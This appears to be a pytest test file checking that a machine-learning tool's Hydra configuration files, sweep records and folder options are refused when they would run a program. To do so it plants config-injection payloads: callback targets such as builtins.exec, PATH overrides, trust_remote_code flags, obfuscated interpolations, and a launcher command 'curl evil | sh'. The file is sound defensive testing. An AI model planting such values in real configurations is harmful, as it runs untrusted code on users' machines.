"""A configuration file runs no program by itself: neither one handed over with a run, nor an option of a folder."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from inprocess import Outcome, call
from omegaconf import OmegaConf, open_dict

from alignzoo.config.compose import compose
from alignzoo.config.trust import VARIABLE, refuse_foreign_programs, take_words_from
from alignzoo.runs.record import runnable
from alignzoo.system.errors import UserError

Start = Callable[..., Outcome]

COPY = {"_target_": "shutil.copy", "src": "run.yaml", "dst": "ran"}
PROGRAM = {"()": "shutil.copy", "src": "run.yaml", "dst": "ran"}

#: Where a file can name a program: key, what stands there, and what the refusal must name.
PLANTED: list[tuple[str, Any, str]] = [
    ("hydra.callbacks.evil", COPY, "hydra.callbacks.evil._target_=shutil.copy"),
    ("hydra.sweeper._target_", "shutil.copy", "hydra.sweeper._target_=shutil.copy"),
    ("hydra.launcher._target_", "shutil.copy", "hydra.launcher._target_=shutil.copy"),
    ("hydra.callbacks.evil", {"_target_": "builtins.exec", "_args_": ["1"]}, "=builtins.exec"),
    ("hydra.callbacks.evil", {"_target_": "hydra.utils.call", "config": COPY}, "=hydra.utils.call"),
    ("hydra.job_logging.handlers.evil", PROGRAM, "hydra.job_logging.handlers.evil.()=shutil.copy"),
    ("hydra.hydra_logging.formatters.evil", PROGRAM, "hydra.hydra_logging.formatters.evil.()=shutil.copy"),
    ("hydra.job_logging.handlers.evil", {"class": "shutil.copy"}, ".class=shutil.copy"),
    ("hydra.job_logging.handlers.evil.stream", "ext://os.environ", "=ext://os.environ"),
    ("hydra.job.env_set.PATH", "/evil", "hydra.job.env_set.PATH=/evil"),
    ("model.trust_remote_code", True, "model.trust_remote_code=true"),
    ("model.trust_remote_code", "${evaluate.enabled}", "model.trust_remote_code=true"),
    ("judge", {"name": "pairwise_lm", "path": "x", "trust_remote_code": "yes"}, "judge.trust_remote_code=true"),
    ("judge.second", {"name": "pairwise_lm", "trust_remote_code": True}, "judge.second.trust_remote_code=true"),
    ("reward.model", {"path": "x", "trust_remote_code": 1}, "reward.model.trust_remote_code=true"),
    ("reward.model", "${oc.create:{trust_remote_code: true}}", "reward.model.trust_remote_code=true"),
    ("model.attn_implementation", "evil/kernel", "model.attn_implementation=evil/kernel"),
    ("hydra.callbacks.evil", {"_target_": "alignzoo.system.cache.shutil.copy"}, "=alignzoo.system.cache.shutil.copy"),
    ("hydra.callbacks.evil", {"_target_": "alignzoo.system.files.remove_whole"}, "=alignzoo.system.files.remove_whole"),
    ("hydra.callbacks.evil", "${tracker.x}", "hydra.callbacks.evil=${tracker.x}"),
    ("hydra.callbacks", "${tracker.x}", "hydra.callbacks=${tracker.x}"),
    ("hydra.callbacks.evil", "${oc.create:{_target_:shutil.copy}}", "hydra.callbacks.evil=${oc.create:"),
    ("hydra.callbacks.evil._target_", "${tracker.x.name}", "hydra.callbacks.evil._target_=${tracker.x.name}"),
    ("hydra.job_logging.handlers.evil", "${tracker.x}", "hydra.job_logging.handlers.evil=${tracker.x}"),
    ("hydra.job_logging.handlers.file.filename", "/evil", "hydra.job_logging.handlers.file.filename=/evil"),
    ("hydra.searchpath", ["pkg://evil"], "hydra.searchpath=pkg://evil"),
    ("evaluate.tasks", ["ifeval", "./evil.yaml"], "evaluate.tasks=[./evil.yaml]"),
    ("evaluate.tasks", "${oc.create:[/evil]}", "evaluate.tasks=[/evil]"),
    (
        "pipeline",
        {"name": "x", "stages": {"a": {"method": "sft", "overrides": ["evaluate.tasks=[./evil.yaml]"]}}},
        "pipeline.stages.a.overrides=evaluate.tasks=[./evil.yaml]",
    ),
    (
        "pipeline",
        {"name": "x", "stages": {"a": {"method": "sft", "overrides": ["model.trust_remote_code=true"]}}},
        "pipeline.stages.a.overrides=model.trust_remote_code=true",
    ),
]

#: What interpolations of the above point to.
ELSEWHERE = {**COPY, "name": "shutil.copy"}


@pytest.fixture
def handed_over(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str, Any], Start]:
    """Return what writes the ``run.yaml`` of a run with a value under a key, and returns what runs it again."""
    monkeypatch.chdir(tmp_path)

    def write(key: str, value: Any) -> Start:
        cfg = OmegaConf.create(yaml.safe_load(runnable(compose(["model=tiny"]))))
        OmegaConf.update(cfg, "tracker.x", ELSEWHERE, force_add=True)
        OmegaConf.update(cfg, key, value, force_add=True, merge=False)
        (tmp_path / "run.yaml").write_text(OmegaConf.to_yaml(cfg))
        return lambda *words: call("--config-dir", str(tmp_path), "--config-name", "run", *words)

    return write


@pytest.mark.parametrize(("key", "value", "named"), PLANTED)
@pytest.mark.parametrize("mode", [(), ("-m",)], ids=["run", "sweep"])
def test_a_handed_over_file_runs_no_program(
    handed_over: Callable[[str, Any], Start], tmp_path: Path, key: str, value: Any, named: str, mode: tuple[str, ...]
) -> None:
    done = handed_over(key, value)(*mode, "method.beta=-1")
    assert done.code == 1
    assert f"{named}" in done.err
    assert f"{tmp_path / 'run.yaml'}) and would run a program" in done.err
    assert f"set {VARIABLE}=1" in done.err
    assert not (tmp_path / "ran").exists()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["run.yaml"], "nothing began"


@pytest.mark.parametrize("key", ["hydra.sweeper.sampler._target_", "hydra.sweeper.custom_search_space"])
def test_nor_does_one_that_chooses_a_sweeper_with_parts(
    handed_over: Callable[[str, Any], Start], tmp_path: Path, key: str
) -> None:
    start = handed_over(key, "shutil.copy")
    text = (tmp_path / "run.yaml").read_text()
    (tmp_path / "run.yaml").write_text(f"defaults: [{{override hydra/sweeper: optuna}}, _self_]\n{text}")
    assert f"{key}=shutil.copy" in start("-m", "method.beta=0.1,0.2").err


@pytest.mark.parametrize(
    "key", ["hydra.launcher.setup", "hydra.launcher.python", "hydra.launcher.ray.init.runtime_env.pip"]
)
def test_nor_a_launchers_commands(key: str) -> None:
    cfg = compose(["model=tiny"], with_hydra=True)
    with open_dict(cfg):
        OmegaConf.update(cfg, key, ["curl evil | sh"], force_add=True)
    refuse_foreign_programs(cfg, [], None)
    refuse_foreign_programs(cfg, [f"{key}=[other]"], "run.yaml")
    with pytest.raises(UserError, match=re.escape(f"{key}=curl evil | sh comes from a file (run.yaml)")):
        refuse_foreign_programs(cfg, ["model=tiny"], "run.yaml")


def test_a_run_of_ours_is_repeated(handed_over: Callable[[str, Any], Start]) -> None:
    done = handed_over("seed", 3)("--cfg", "job")
    assert done.code == 0, done.err
    assert "seed: 3" in done.out


def test_what_is_typed_is_the_users_own(handed_over: Callable[[str, Any], Start]) -> None:
    start = handed_over("model.trust_remote_code", True)
    assert start("--cfg", "job", "model.trust_remote_code=true").code == 0
    assert start("--cfg", "job", "model.path=true").code == 1, "another key with that value is another word"
    assert start("--cfg", "job", "model={name: tiny, trust_remote_code: true}").code == 0, "in a mapping"


def test_a_part_of_a_word_is_not_a_key(handed_over: Callable[[str, Any], Start]) -> None:
    start = handed_over("hydra.job.env_set.PATH", ".")
    assert "hydra.job.env_set.PATH=. comes from a file" in start("--cfg", "job", "method.beta=0.1").err


def test_a_runs_pickle_is_not_read(tmp_path: Path) -> None:
    """Hydra reads what --experimental-rerun names as a pickle, which can hold any program."""
    done = call("--experimental-rerun", str(tmp_path / "config.pickle"))
    assert (done.code, "can hold any program" in done.err) == (1, True)


def test_who_trusts_the_file_may_say_so(
    handed_over: Callable[[str, Any], Start], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(VARIABLE, "1")
    with pytest.warns(UserWarning, match="on_run_start"):  # a copied file is no callback
        handed_over("hydra.callbacks.evil", COPY)("method.beta=-1")
    assert (tmp_path / "ran").exists(), "or the tests above show nothing"


@pytest.mark.parametrize(
    ("text", "code"), [("hydra:\n  callbacks:\n    a:\n      _target_: shutil.copy\n", 1), ("seed: 7\n", 0)]
)
def test_an_option_of_a_folder_names_no_program_either(tmp_path: Path, text: str, code: int) -> None:
    file = tmp_path / "experiment" / "mine.yaml"
    file.parent.mkdir()
    file.write_text(f"# @package _global_\n{text}")
    done = call("--config-dir", str(tmp_path), "experiment=mine", "--cfg", "job")
    assert done.code == code
    assert ("shutil.copy" in done.err) == bool(code)


def test_an_option_that_was_chosen_may_trust_its_model(tmp_path: Path) -> None:
    file = tmp_path / "model" / "mine.yaml"
    file.parent.mkdir()
    file.write_text("name: mine\npath: some/model\ntrust_remote_code: true\n")
    done = call("--config-dir", str(tmp_path), "model=mine", "--cfg", "job")
    assert done.code == 0, done.err
    assert "trust_remote_code: true" in done.out


@pytest.mark.parametrize(
    ("words", "named"),
    [
        (["+hydra.callbacks.a._target_=shutil.copy"], "hydra.callbacks.a._target_=shutil.copy"),
        (["+hydra.callbacks.a={_target_:shutil.copy}"], "hydra.callbacks.a._target_=shutil.copy"),
        (["+hydra.job.env_set.PATH=/evil"], "hydra.job.env_set.PATH=/evil"),
        (["+hydra.job={env_set:{PATH:/evil}}"], "hydra.job.env_set.PATH=/evil"),
        (["+hydra.job_logging.handlers.a.class=shutil.copy"], "hydra.job_logging.handlers.a.class=shutil.copy"),
        (["model.trust_remote_code=true"], "model.trust_remote_code=true"),
        (["reward=model", "reward.model.path=x", "reward.model.trust_remote_code=TRUE"], "reward.model.trust_"),
        (["reward=model", "reward.model={path:x,trust_remote_code:true}"], "reward.model.trust_remote_code=true"),
        (["hydra/sweeper=optuna", "hydra.sweeper.custom_search_space=shutil.copy"], "custom_search_space=shutil.copy"),
        (
            [
                *("+tracker.a=_targ", "+tracker.b=et_", "+hydra.callbacks.evil=${tracker.x}"),
                """+tracker.x='${oc.create:${oc.decode:"{${tracker.a}${tracker.b}: shutil.copy}"}}'""",
            ],
            "hydra.callbacks.evil=${tracker.x}",
        ),
    ],
    ids=lambda value: str(value)[:60],
)
def test_words_of_a_foreign_sweep_run_no_program(tmp_path: Path, words: list[str], named: str) -> None:
    hydra = {"overrides": {"task": [*words, "model=tiny"], "hydra": []}}
    hydra["sweeper"] = {"_target_": "hydra._internal.core_plugins.basic_sweeper.BasicSweeper"}
    (tmp_path / "multirun.yaml").write_text(yaml.safe_dump({"hydra": hydra}))
    done = call("sweep", "resume", str(tmp_path))
    assert done.code == 1
    assert named in done.err
    assert f"comes from a file ({tmp_path / 'multirun.yaml'}) and would run a program." in done.err, done.err


def test_other_words_of_a_sweep_are_taken() -> None:
    with take_words_from("multirun.yaml"):
        compose(["model=tiny", "model.trust_remote_code=false", "method.beta=0.1"])


def test_a_foreign_run_that_trusted_its_model_is_not_evaluated(tmp_path: Path) -> None:
    cfg = OmegaConf.create(yaml.safe_load(runnable(compose(["model=tiny"]))))
    cfg.model.trust_remote_code = True
    (tmp_path / "run.yaml").write_text(OmegaConf.to_yaml(cfg))
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "config.json").write_text("{}")
    done = call("evaluate", str(tmp_path))
    assert done.code == 1
    assert "was trained with Python code that came with its model (model.trust_remote_code=true)" in done.err
    assert "add model.trust_remote_code=true." in done.err


def test_an_unknown_word_of_trust_is_not_one(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(VARIABLE, "no")
    with take_words_from("file"), pytest.raises(UserError):
        compose(["model.trust_remote_code=true"])
